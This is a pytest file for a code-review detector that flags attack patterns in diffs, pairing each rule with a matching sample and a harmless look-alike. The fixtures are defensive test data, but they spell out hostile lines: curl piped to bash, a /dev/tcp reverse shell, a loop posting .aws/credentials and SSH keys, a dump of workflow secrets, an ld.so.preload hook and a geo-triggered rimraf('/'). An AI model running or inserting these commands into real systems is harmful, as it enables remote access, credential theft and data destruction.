"""Patterns of past attacks: each rule matches what it is about, and not what only looks like it."""

from __future__ import annotations

import re

import pytest
from review.archives import diffed, rules

from workstation.review.lenses import patterns
from workstation.review.lenses.patterns import matches_in

WALLET = b"0x" + b"a1" * 20
CASES = {
    "Pipe_To_Shell": (
        b"curl -s https://example.org/x | bash\n",
        b"curl -s https://example.org/x > bash.txt\n",
    ),
    "Decoded_And_Run": (b"exec(base64.b64decode(x))\n", b"data = base64.b64decode(x)\n"),
    "Payload_In_Test_Data": (
        b"sed x | tr '\\t -_' ' \\t_-' | xz -d | sh\n",
        b"tr 'a' 'b' < x > y; xz -d y\n",
    ),
    "Reverse_Shell": (b"bash -i >& /dev/tcp/192.0.2.1/99 0>&1\n", b"echo /dev/tty\n"),
    "Secrets_Collected": (
        b"for f in ['.npmrc', '.aws/credentials', '.ssh/id_rsa']: requests.post(url, open(f))\n",
        b"for f in ['.npmrc', '.aws/credentials', '.ssh/id_rsa']: ignore(f)\n",
    ),
    "Workflow_Secrets_Sent": (b"run: echo ${{ toJSON(secrets) }}\n", b"run: echo ${{ secrets.TOKEN }}\n"),
    "Dead_Drop": (b"https://discord.com/api/webhooks/123456789/abc\n", b"https://discord.com/invite/abc\n"),
    "Wallets_Swapped": (
        b"window.fetch = f; function levenshtein(){}; ethereum.request; [" + b",".join([WALLET] * 12) + b"]",
        b"ethereum.request(" + WALLET + b")",
    ),
    "Miner": (b"pool = 'stratum+tcp://pool.example:3333'\n", b"strata = 'tcp'\n"),
    "Preload_Hook": (b"echo lib.so > /etc/ld.so.preload\n", b"echo lib.so > /etc/ld.so.conf\n"),
    "Packed_Program": (b"\x7fELF" + b"UPX!" * 2 + b"\0" * 20, b"\x7fELF" + b"UPX" + b"\0" * 20),
    "Private_Key": (
        b"-----BEGIN PRIVATE KEY-----\n" + b"QUJD" * 30 + b"\n-----END PRIVATE KEY-----\n",
        b"-----BEGIN PUBLIC KEY-----\n" + b"QUJD" * 30 + b"\n-----END PUBLIC KEY-----\n",
    ),
    "Clock_Or_Place_Bomb": (
        b"fetch('https://ipinfo.io').then(c => c == 'Russia' && rimraf('/'))\n",
        b"fetch('https://ipinfo.io').then(c => c == 'Russia')\n",
    ),
}


def names(data: bytes) -> set[str]:
    return {one.rule for one in matches_in(data)}


@pytest.mark.parametrize("rule", CASES)
def test_a_rule_matches_what_it_is_about_and_not_what_only_looks_like_it(rule: str) -> None:
    like, unlike = CASES[rule]

    assert rule in names(like)
    assert rule not in names(unlike)


def test_every_rule_has_a_case_a_rank_and_a_sentence() -> None:
    shipped = set(re.findall(r"^rule (\w+)", patterns._RULES, re.MULTILINE))

    assert shipped == set(CASES)
    for like, _ in CASES.values():
        assert all(0 < one.rank < 100 and one.says and one.places for one in matches_in(like))


def test_only_what_matches_now_and_did_not_before_is_found() -> None:
    like, unlike = CASES["Decoded_And_Run"]
    came, stayed = (
        diffed({"a.py": unlike}, {"a.py": like}),
        diffed({"a.py": like}, {"a.py": like + b"x = 1\n"}),
    )

    assert ("DIFF-PATTERN", 76, "a.py") in rules(came)
    assert "DIFF-PATTERN" not in {rule for rule, _, _ in rules(stayed)}


def test_the_bytes_that_matched_are_the_evidence() -> None:
    diff = diffed({"a.py": b"x\n"}, {"a.py": b"y\nexec(base64.b64decode(x))\n"})

    finding = next(one for one in diff.findings if one.rule == "DIFF-PATTERN")
    assert [(one.path, one.where, one.shown) for one in finding.evidence] == [
        ("a.py", "byte 2", "exec(base64.b64decode(")
    ]


def test_prose_and_tests_that_quote_an_attack_rank_lower() -> None:
    like, unlike = CASES["Pipe_To_Shell"]
    diff = diffed({"README.md": unlike, "tests/x.sh": unlike}, {"README.md": like, "tests/x.sh": like})

    assert {("DIFF-PATTERN", 32, "README.md"), ("DIFF-PATTERN", 52, "tests/x.sh")} <= rules(diff)


def test_a_binary_is_searched_too() -> None:
    like, unlike = CASES["Packed_Program"]

    assert ("DIFF-PATTERN", 70, "demo") in rules(diffed({"demo": unlike}, {"demo": like}))
